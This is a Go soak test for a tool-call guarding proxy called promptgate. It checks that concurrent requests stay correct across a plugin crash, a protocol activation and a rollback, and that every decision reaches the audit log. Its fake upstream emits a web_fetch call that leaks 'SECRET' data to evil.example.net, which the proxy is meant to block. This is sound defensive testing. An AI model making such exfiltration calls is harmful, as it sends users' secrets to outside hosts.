package main

// The soak test runs the whole server — `promptgate serve` with a real DB, a real plugin process,
// the audit ring and a JSON-lines audit file — under many concurrent clients for a while, and
// checks that nothing was lost or let in. Its short form (a few seconds) runs with every `go test`;
// a long one runs with PROMPTGATE_SOAK set to a duration:
//
//	PROMPTGATE_SOAK=5m go test -run Soak -timeout 20m ./cmd/promptgate

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/openai/openai-go/v3"
	"github.com/openai/openai-go/v3/option"
	"github.com/openai/openai-go/v3/shared"
	"github.com/tidwall/gjson"
	"go.uber.org/goleak"
)

// EnvSoak sets the soak's duration (a Go duration such as 5m); unset, the short soak runs.
const EnvSoak = "PROMPTGATE_SOAK"

// shortSoak is the soak's duration in the normal test run.
const shortSoak = 3 * time.Second

// soakClients is how many clients send requests at once; half use the official openai-go client,
// half raw HTTP.
const soakClients = 8

// Request kinds of the soak: what the upstream answers, and so what the client must get.
const (
	kindText     = iota // plain text
	kindGood            // one allowed tool call
	kindBad             // one tool call the protocol's rule blocks
	kindMixed           // an allowed call and a blocked one
	kindUpstream        // the upstream answers 503 with a JSON error (passed through)
	numKinds
)

var kindNames = [numKinds]string{"text", "good", "bad", "mixed", "upstream503"}

// soakProtocol is the protocol under test; rules is a marker that shows which version assembled a
// prompt.
func soakProtocol(rules string) string {
	return `{"id":"guarded","promptTemplate":{"base":"base_tool_call_v2","overrides":{"rules":"` + rules + `"}},
	  "allowClientSelection":true,"tools":{"allow":["web_fetch","get_weather"]},
	  "toolCalls":{"onViolation":"refuse","rules":[{"id":"docs-only","tool":"web_fetch","path":"url","pattern":"^https://docs\\.example\\.com/"}]}}`
}

const (
	rulesV1 = "- soak rules one"
	rulesV2 = "- soak rules two"
)

// soakUpstream is the OpenAI stand-in: it reads "soak KIND N" from the last user message and
// answers accordingly, stream or not, splitting stream events across writes. It checks that each
// prompt was assembled from exactly one protocol version, and notes the plugin's process ids.
type soakUpstream struct {
	*httptest.Server
	mu       sync.Mutex
	pids     map[int64]bool
	skipped  atomic.Int64 // requests whose context said the plugin was skipped
	versions [2]atomic.Int64
	bad      atomic.Int64 // prompts that were not exactly one version's
	lastPID  atomic.Int64
}

func newSoakUpstream(t *testing.T) *soakUpstream {
	u := &soakUpstream{pids: map[int64]bool{}}
	u.Server = httptest.NewServer(http.HandlerFunc(u.serve))
	t.Cleanup(u.Close)
	return u
}

func (u *soakUpstream) serve(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	sys := gjson.GetBytes(body, "messages.0.content").String()
	v1, v2 := strings.Contains(sys, rulesV1), strings.Contains(sys, rulesV2)
	switch {
	case v1 && !v2:
		u.versions[0].Add(1)
	case v2 && !v1:
		u.versions[1].Add(1)
	default:
		u.bad.Add(1)
		w.WriteHeader(http.StatusInternalServerError) // not JSON: the client sees a 502 and the test fails
		return
	}
	if _, after, ok := strings.Cut(sys, "=== RUNTIME CONTEXT"); ok {
		line := strings.SplitN(after, "\n", 3)[1]
		if pid := gjson.Get(line, "echo.pid").Int(); pid > 0 {
			u.lastPID.Store(pid)
			u.mu.Lock()
			u.pids[pid] = true
			u.mu.Unlock()
		} else if gjson.Get(line, `meta.skipped.#(source=="echo")`).Exists() {
			u.skipped.Add(1)
		}
	}
	msgs := gjson.GetBytes(body, "messages").Array()
	var kind, n int
	if _, err := fmt.Sscanf(msgs[len(msgs)-1].Get("content").String(), "soak %d %d", &kind, &n); err != nil {
		w.WriteHeader(http.StatusBadRequest)
		return
	}
	good := fmt.Sprintf(`{"index":%%d,"id":"call_good_%d","type":"function","function":{"name":"get_weather","arguments":%q}}`, n, fmt.Sprintf(`{"city":"Oslo-%d"}`, n))
	bad := fmt.Sprintf(`{"index":%%d,"id":"call_evil_%d","type":"function","function":{"name":"web_fetch","arguments":%q}}`, n, fmt.Sprintf(`{"url":"https://evil.example.net/?leak=SECRET-%d"}`, n))
	var calls []string
	switch kind {
	case kindGood:
		calls = []string{fmt.Sprintf(good, 0)}
	case kindBad:
		calls = []string{fmt.Sprintf(bad, 0)}
	case kindMixed:
		calls = []string{fmt.Sprintf(bad, 0), fmt.Sprintf(good, 1)}
	case kindUpstream:
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusServiceUnavailable)
		_, _ = io.WriteString(w, `{"error":{"message":"soak overload","type":"server_error","param":null,"code":"overloaded"}}`)
		return
	}
	text := fmt.Sprintf("echo %d", n)
	if !gjson.GetBytes(body, "stream").Bool() {
		msg := fmt.Sprintf(`{"role":"assistant","content":%q}`, text)
		finish := "stop"
		if len(calls) > 0 {
			for i := range calls { // a message's calls carry no index
				calls[i] = strings.Replace(calls[i], fmt.Sprintf(`"index":%d,`, i), "", 1)
			}
			msg = `{"role":"assistant","content":null,"tool_calls":[` + strings.Join(calls, ",") + `]}`
			finish = "tool_calls"
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = fmt.Fprintf(w, `{"id":"chatcmpl-soak","object":"chat.completion","created":1,"model":"m","choices":[{"index":0,"message":%s,"finish_reason":%q}]}`, msg, finish)
		return
	}
	w.Header().Set("Content-Type", "text/event-stream")
	f := w.(http.Flusher)
	ev := func(delta, finish string) {
		fr := "null"
		if finish != "" {
			fr = `"` + finish + `"`
		}
		frame := fmt.Sprintf("data: {\"id\":\"chatcmpl-soak\",\"object\":\"chat.completion.chunk\",\"created\":1,\"model\":\"m\",\"choices\":[{\"index\":0,\"delta\":%s,\"finish_reason\":%s}]}\n\n", delta, fr)
		half := len(frame) / 2
		_, _ = io.WriteString(w, frame[:half])
		f.Flush()
		_, _ = io.WriteString(w, frame[half:])
		f.Flush()
	}
	if len(calls) == 0 {
		ev(`{"role":"assistant","content":"echo "}`, "")
		ev(fmt.Sprintf(`{"content":"%d"}`, n), "")
		ev(`{}`, "stop")
	} else {
		ev(`{"role":"assistant","content":null}`, "")
		for _, c := range calls {
			// The call's head first, then its arguments in two pieces.
			idx := gjson.Get(c, "index").Int()
			args := gjson.Get(c, "function.arguments").String()
			head := fmt.Sprintf(`{"index":%d,"id":%q,"type":"function","function":{"name":%q,"arguments":""}}`, idx, gjson.Get(c, "id").String(), gjson.Get(c, "function.name").String())
			ev(`{"tool_calls":[`+head+`]}`, "")
			for _, part := range []string{args[:len(args)/2], args[len(args)/2:]} {
				p, _ := json.Marshal(part)
				ev(fmt.Sprintf(`{"tool_calls":[{"index":%d,"function":{"arguments":%s}}]}`, idx, p), "")
			}
		}
		ev(`{}`, "tool_calls")
	}
	_, _ = io.WriteString(w, "data: [DONE]\n\n")
}

// soakResult is what a client got, reduced to what the test checks.
type soakResult struct {
	status  int
	code    string // error.code of an error answer or event
	content string
	calls   []soakCall
	finish  string
	raw     string // the raw body, for raw HTTP clients
}

type soakCall struct{ id, name, args string }

// check returns what is wrong with r for a request of kind and number n, or "".
func (r soakResult) check(kind, n int) string {
	if strings.Contains(r.raw, "SECRET") || strings.Contains(r.raw, "call_evil") || strings.Contains(r.content, "SECRET") {
		return "a blocked call's bytes reached the client"
	}
	for _, c := range r.calls {
		if c.name != "get_weather" || strings.Contains(c.args, "SECRET") || strings.Contains(c.id, "evil") {
			return fmt.Sprintf("a call that is not allowed reached the client: %+v", c)
		}
	}
	goodCall := soakCall{fmt.Sprintf("call_good_%d", n), "get_weather", fmt.Sprintf(`{"city":"Oslo-%d"}`, n)}
	switch kind {
	case kindText:
		if r.status != 200 || r.content != fmt.Sprintf("echo %d", n) || len(r.calls) != 0 || r.finish != "stop" {
			return fmt.Sprintf("text: %+v", r)
		}
	case kindGood, kindMixed:
		if r.status != 200 || len(r.calls) != 1 || r.calls[0] != goodCall || r.finish != "tool_calls" {
			return fmt.Sprintf("%s: %+v", kindNames[kind], r)
		}
	case kindBad:
		if r.status != 200 || len(r.calls) != 0 || !strings.HasPrefix(r.content, "[promptgate] blocked tool call web_fetch") || r.finish != "stop" {
			return fmt.Sprintf("bad: %+v", r)
		}
	case kindUpstream:
		if r.status != 503 || r.code != "overloaded" {
			return fmt.Sprintf("upstream 503: %+v", r)
		}
	}
	return ""
}

var soakTools = []openai.ChatCompletionToolUnionParam{
	openai.ChatCompletionFunctionTool(shared.FunctionDefinitionParam{Name: "web_fetch", Parameters: shared.FunctionParameters{"type": "object", "properties": map[string]any{"url": map[string]any{"type": "string"}}, "required": []string{"url"}}}),
	openai.ChatCompletionFunctionTool(shared.FunctionDefinitionParam{Name: "get_weather", Parameters: shared.FunctionParameters{"type": "object", "properties": map[string]any{"city": map[string]any{"type": "string"}}}}),
	openai.ChatCompletionFunctionTool(shared.FunctionDefinitionParam{Name: "delete_all"}),
}

const soakToolsJSON = `[{"type":"function","function":{"name":"web_fetch","parameters":{"type":"object","properties":{"url":{"type":"string"}},"required":["url"]}}},
 {"type":"function","function":{"name":"get_weather","parameters":{"type":"object","properties":{"city":{"type":"string"}}}}},
 {"type":"function","function":{"name":"delete_all"}}]`

// viaSDK sends one request with the official client.
func viaSDK(ctx context.Context, c openai.Client, id string, kind, n int, stream bool) soakResult {
	params := openai.ChatCompletionNewParams{
		Model:    "gpt-4o-mini",
		Messages: []openai.ChatCompletionMessageParamUnion{openai.UserMessage(fmt.Sprintf("soak %d %d", kind, n))},
		Tools:    soakTools,
	}
	opts := []option.RequestOption{option.WithHeader("X-Request-Id", id), option.WithHeader("X-Promptgate-User", id)}
	var r soakResult
	apiErr := func(err error) soakResult {
		var e *openai.Error
		if errors.As(err, &e) {
			return soakResult{status: e.StatusCode, code: e.Code}
		}
		return soakResult{code: err.Error()}
	}
	if !stream {
		resp, err := c.Chat.Completions.New(ctx, params, opts...)
		if err != nil {
			return apiErr(err)
		}
		m := resp.Choices[0].Message
		r = soakResult{status: 200, content: m.Content, finish: resp.Choices[0].FinishReason}
		for _, tc := range m.ToolCalls {
			r.calls = append(r.calls, soakCall{tc.ID, tc.Function.Name, tc.Function.Arguments})
		}
		return r
	}
	s := c.Chat.Completions.NewStreaming(ctx, params, opts...)
	acc := openai.ChatCompletionAccumulator{}
	for s.Next() {
		acc.AddChunk(s.Current())
	}
	if err := s.Err(); err != nil {
		return apiErr(err)
	}
	if len(acc.Choices) != 1 {
		return soakResult{status: 200, code: fmt.Sprintf("%d choices", len(acc.Choices))}
	}
	m := acc.Choices[0].Message
	r = soakResult{status: 200, content: m.Content, finish: acc.Choices[0].FinishReason}
	for _, tc := range m.ToolCalls {
		r.calls = append(r.calls, soakCall{tc.ID, tc.Function.Name, tc.Function.Arguments})
	}
	return r
}

// viaHTTP sends one request as raw HTTP and reads the answer itself, stream or not.
func viaHTTP(ctx context.Context, hc *http.Client, base, id string, kind, n int, stream bool) soakResult {
	body := fmt.Sprintf(`{"model":"gpt-4o-mini","stream":%v,"messages":[{"role":"user","content":"soak %d %d"}],"tools":%s}`, stream, kind, n, soakToolsJSON)
	req, _ := http.NewRequestWithContext(ctx, http.MethodPost, base+"/chat/completions", strings.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("X-Request-Id", id)
	req.Header.Set("X-Promptgate-User", id) // a user per request: the plugin's answers are cached per user
	resp, err := hc.Do(req)
	if err != nil {
		return soakResult{code: err.Error()}
	}
	raw, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	r := soakResult{status: resp.StatusCode, raw: string(raw)}
	if err != nil {
		r.code = err.Error()
		return r
	}
	if resp.StatusCode != 200 {
		r.code = gjson.GetBytes(raw, "error.code").String()
		return r
	}
	if !stream {
		m := gjson.GetBytes(raw, "choices.0.message")
		r.content, r.finish = m.Get("content").String(), gjson.GetBytes(raw, "choices.0.finish_reason").String()
		for _, tc := range m.Get("tool_calls").Array() {
			r.calls = append(r.calls, soakCall{tc.Get("id").String(), tc.Get("function.name").String(), tc.Get("function.arguments").String()})
		}
		return r
	}
	calls := map[int64]*soakCall{}
	var order []int64
	sc := bufio.NewScanner(bytes.NewReader(raw))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		data, ok := strings.CutPrefix(sc.Text(), "data: ")
		if !ok || data == "[DONE]" {
			continue
		}
		if c := gjson.Get(data, "error.code"); c.Exists() {
			r.code = c.String()
			continue
		}
		ch := gjson.Get(data, "choices.0")
		r.content += ch.Get("delta.content").String()
		if f := ch.Get("finish_reason").String(); f != "" {
			r.finish = f
		}
		for _, tc := range ch.Get("delta.tool_calls").Array() {
			i := tc.Get("index").Int()
			c := calls[i]
			if c == nil {
				c = &soakCall{}
				calls[i] = c
				order = append(order, i)
			}
			c.id += tc.Get("id").String()
			c.name += tc.Get("function.name").String()
			c.args += tc.Get("function.arguments").String()
		}
	}
	for _, i := range order {
		r.calls = append(r.calls, *calls[i])
	}
	return r
}

// soakDuration is the soak's length: PROMPTGATE_SOAK, else shortSoak.
func soakDuration(t *testing.T) time.Duration {
	v := os.Getenv(EnvSoak)
	if v == "" {
		return shortSoak
	}
	d, err := time.ParseDuration(v)
	if err != nil || d <= 0 {
		t.Fatalf("%s=%q: give a duration such as 5m", EnvSoak, v)
	}
	return d
}

func heapInuseAfterGC() uint64 {
	runtime.GC()
	runtime.GC()
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	return ms.HeapInuse
}

// adminDo sends an admin API request with the token.
func adminDo(t *testing.T, method, url, body string) []byte {
	t.Helper()
	req, _ := http.NewRequest(method, url, strings.NewReader(body))
	req.Header.Set("Authorization", "Bearer soak-admin-token")
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Errorf("admin %s %s: %v", method, url, err)
		return nil
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode/100 != 2 {
		t.Errorf("admin %s %s: %d %s", method, url, resp.StatusCode, b)
	}
	return b
}

func TestSoak(t *testing.T) {
	d := soakDuration(t)
	bin, sum := testsource(t)
	dir := t.TempDir()
	db, auditFile := filepath.Join(dir, "pg.db"), filepath.Join(dir, "audit.jsonl")
	migDir := filepath.Join(dir, "rollouts")
	if err := os.Mkdir(migDir, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(migDir, "001-guarded.json"), []byte(`{"id":"001-guarded","protocols":[`+soakProtocol(rulesV1)+`]}`), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, errOut, err := runCmd(t, nil, "", "migrate", "up", "--create", "--db", db, "--dir", migDir); err != nil {
		t.Fatalf("migrate up: %v %s", err, errOut)
	}
	cfg := filepath.Join(dir, "pg.yaml")
	if err := os.WriteFile(cfg, []byte(fmt.Sprintf(`defaultProtocol: guarded
audit: {file: %q}
plugins:
  - {name: echo, path: %q, sha256: %q, module: echo, minMode: minimal, timeout: 2s}
`, auditFile, bin, sum)), 0o600); err != nil {
		t.Fatal(err)
	}
	up := newSoakUpstream(t)

	baseHeap := heapInuseAfterGC()
	leakOpts := []goleak.Option{goleak.IgnoreCurrent()}
	s := startServe(t, map[string]string{"PROMPTGATE_ADMIN_TOKEN": "soak-admin-token", "PROMPTGATE_LOG_LEVEL": "warn"},
		"--db", db, "--config", cfg, "--upstream", up.URL+"/v1")

	sdkHTTP := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: soakClients}}
	rawHTTP := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: soakClients}}
	sdk := openai.NewClient(option.WithBaseURL(s.base), option.WithAPIKey("sk-soak"), option.WithMaxRetries(0), option.WithHTTPClient(sdkHTTP))

	type sent struct {
		id   string
		kind int
	}
	var (
		mu       sync.Mutex
		requests []sent
		failures []string
		total    atomic.Int64
	)
	// The clients run for the soak's duration and, on a machine too slow for the midway events to
	// happen within it, until they have happened: the events wait on what they need, not on the
	// clock.
	soakStart := time.Now()
	ctx, stopClients := context.WithCancel(context.Background())
	defer stopClients()
	eventsDone := make(chan struct{})
	go func() {
		timer := time.NewTimer(d)
		defer timer.Stop()
		select {
		case <-timer.C:
		case <-ctx.Done():
			return
		}
		<-eventsDone
		stopClients()
	}()
	var wg sync.WaitGroup
	for c := range soakClients {
		wg.Add(1)
		go func() {
			defer wg.Done()
			// Every client sends each kind at least once streamed and once not, however slow the
			// machine.
			for i := 0; ctx.Err() == nil || i < 2*numKinds; i++ {
				n := c*1_000_000 + i
				kind, stream := i%numKinds, (i/numKinds)%2 == 1
				id := fmt.Sprintf("soak-%d-%d", c, i)
				// Each request runs to its end even when the soak's time is up, so that no request
				// is cut by the test itself.
				var r soakResult
				if c%2 == 0 {
					r = viaSDK(context.Background(), sdk, id, kind, n, stream)
				} else {
					r = viaHTTP(context.Background(), rawHTTP, s.base, id, kind, n, stream)
				}
				total.Add(1)
				mu.Lock()
				requests = append(requests, sent{id, kind})
				if why := r.check(kind, n); why != "" && len(failures) < 20 {
					failures = append(failures, fmt.Sprintf("%s (%s, stream=%v): %s", id, kindNames[kind], stream, why))
				}
				mu.Unlock()
			}
		}()
	}

	// Midway events: a plugin crash, an activation, a rollback. Each waits for what it needs (a
	// first plugin answer; a request that saw the activated version) with a bound generous for a
	// loaded machine.
	var pluginKilled atomic.Int64
	go func() {
		defer close(eventsDone)
		pause := func(f float64) { time.Sleep(time.Duration(f * float64(d))) }
		pause(0.2)
		if !pollUntil(60*time.Second, func() bool { return up.lastPID.Load() != 0 }) {
			t.Error("no request carried the plugin's pid within 60 s")
			return
		}
		if p, err := os.FindProcess(int(up.lastPID.Load())); err == nil && p.Kill() == nil {
			pluginKilled.Store(int64(p.Pid))
		}
		t.Logf("%v: plugin process %d killed", time.Since(soakStart).Round(time.Millisecond), pluginKilled.Load())
		pause(0.1)
		v := gjson.GetBytes(adminDo(t, http.MethodPost, s.admin+"/admin/protocols/guarded/versions", soakProtocol(rulesV2)), "version").Int()
		adminDo(t, http.MethodPost, s.admin+"/admin/protocols/guarded/activate", fmt.Sprintf(`{"version":%d}`, v))
		if !pollUntil(60*time.Second, func() bool { return up.versions[1].Load() > 0 }) {
			t.Error("no request saw the activated version within 60 s")
			return
		}
		t.Logf("%v: the activated version seen", time.Since(soakStart).Round(time.Millisecond))
		pause(0.3)
		adminDo(t, http.MethodPost, s.admin+"/admin/protocols/guarded/rollback", `{}`)
		t.Logf("%v: rolled back", time.Since(soakStart).Round(time.Millisecond))
	}()
	wg.Wait()
	<-eventsDone
	t.Logf("%v: clients done", time.Since(soakStart).Round(time.Millisecond))

	// The killed plugin is back: on a loaded machine its restart may outlast a short soak, so keep
	// sending (checked) requests until a new process answers.
	for deadline, i := time.Now().Add(60*time.Second), 0; pluginKilled.Load() != 0 && time.Now().Before(deadline); i++ {
		up.mu.Lock()
		restarted := len(up.pids) >= 2
		up.mu.Unlock()
		if restarted {
			break
		}
		id, n := fmt.Sprintf("soak-after-%d", i), 9_000_000+i
		r := viaHTTP(context.Background(), rawHTTP, s.base, id, kindText, n, false)
		total.Add(1)
		requests = append(requests, sent{id, kindText})
		if why := r.check(kindText, n); why != "" {
			t.Errorf("%s: %s", id, why)
		}
		time.Sleep(100 * time.Millisecond)
	}

	// While it still runs: the ring answers for the last request.
	last := requests[len(requests)-1]
	{
		var b []byte
		// The ring writes in the background: poll (the bound is for a loaded machine).
		if !pollUntil(30*time.Second, func() bool {
			b = adminDo(t, http.MethodGet, s.admin+"/admin/audit?requestId="+last.id, "")
			return len(gjson.GetBytes(b, "events").Array()) > 0
		}) {
			t.Errorf("the audit ring has no event of request %s: %s", last.id, b)
		}
	}
	if err := s.stop(); err != nil {
		t.Fatal(err)
	}
	sdkHTTP.CloseIdleConnections()
	rawHTTP.CloseIdleConnections()
	up.CloseClientConnections()

	n := total.Load()
	up.mu.Lock()
	pids := len(up.pids)
	up.mu.Unlock()
	t.Logf("%d requests in %v by %d clients (%.0f/s); prompts by version: v1 %d, v2 %d; plugin killed: pid %d; pids seen %d; requests with the plugin skipped: %d",
		n, d, soakClients, float64(n)/d.Seconds(), up.versions[0].Load(), up.versions[1].Load(), pluginKilled.Load(), pids, up.skipped.Load())
	for _, f := range failures {
		t.Error(f)
	}
	if n < soakClients*numKinds {
		t.Errorf("only %d requests", n)
	}
	if up.bad.Load() != 0 {
		t.Errorf("%d prompts were not assembled from exactly one protocol version", up.bad.Load())
	}
	if up.versions[1].Load() == 0 {
		t.Error("no request saw the activated version")
	}
	if pluginKilled.Load() == 0 || pids < 2 {
		t.Errorf("the plugin was not restarted after the kill: killed %d, %d pids seen", pluginKilled.Load(), pids)
	}

	// Every decision is in the audit log.
	type key struct{ id, kind, tool, verdict string }
	logged := map[key]bool{}
	admin := map[string]int{}
	f, err := os.Open(auditFile)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		e := gjson.ParseBytes(sc.Bytes())
		logged[key{e.Get("requestId").String(), e.Get("kind").String(), e.Get("tool").String(), e.Get("verdict").String()}] = true
		if e.Get("target").String() == "protocols/guarded" {
			admin[e.Get("kind").String()]++
		}
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	missing := 0
	for _, r := range requests {
		want := []key{{r.id, "tool_removed", "delete_all", "removed"}}
		switch r.kind {
		case kindGood:
			want = append(want, key{r.id, "tool_call", "get_weather", "allowed"})
		case kindBad:
			want = append(want, key{r.id, "tool_call", "web_fetch", "blocked"})
		case kindMixed:
			want = append(want, key{r.id, "tool_call", "get_weather", "allowed"}, key{r.id, "tool_call", "web_fetch", "blocked"})
		}
		for _, k := range want {
			if !logged[k] {
				if missing++; missing <= 10 {
					t.Errorf("not in the audit log: %+v", k)
				}
			}
		}
	}
	if missing > 0 {
		t.Errorf("%d decisions missing from the audit log", missing)
	}
	if admin["version_added"] != 1 || admin["activated"] != 1 || admin["rolled_back"] != 1 {
		t.Errorf("admin changes in the audit log: %v", admin)
	}

	// Goroutines and memory return to their baseline.
	if err := goroutinesGone(leakOpts...); err != nil {
		t.Errorf("goroutines left after the soak: %v", err)
	}
	requests, logged = nil, nil
	heap := heapInuseAfterGC()
	t.Logf("heap in use: %d MiB before, %d MiB after", baseHeap>>20, heap>>20)
	if heap > baseHeap+64<<20 {
		t.Errorf("heap in use grew from %d MiB to %d MiB", baseHeap>>20, heap>>20)
	}
}

// goroutinesGone is goleak.Find retried for up to 30 s: goroutines of closed connections end soon,
// but on a loaded machine later than goleak's own half second of retries. A real leak stays and is
// reported.
func goroutinesGone(opts ...goleak.Option) error {
	var err error
	pollUntil(30*time.Second, func() bool { err = goleak.Find(opts...); return err == nil })
	return err
}
